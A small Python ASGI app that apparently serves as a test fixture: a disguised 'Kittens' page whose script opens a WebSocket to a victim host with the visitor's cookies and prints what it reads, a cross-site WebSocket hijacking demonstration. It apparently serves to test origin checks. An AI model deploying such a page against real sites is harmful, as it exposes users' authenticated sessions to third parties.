"""A page of somebody else's. Whoever opens it lends it the cookies that the browser has for our site."""

PAGE = """<!doctype html>
<title>Kittens</title>
<h1>Kittens</h1>
<pre></pre>
<script>
  const say = (text) => document.querySelector("pre").append(text + "\\n");
  const victim = new URLSearchParams(location.search).get("victim");
  const socket = new WebSocket(`ws://${victim}/ws/door/`);
  socket.onmessage = (event) => say("I have read: " + event.data);
  socket.onclose = (event) => say("closed with " + event.code);
</script>
"""


async def application(scope, receive, send):
    headers = [(b"content-type", b"text/html; charset=utf-8")]
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": PAGE.encode()})
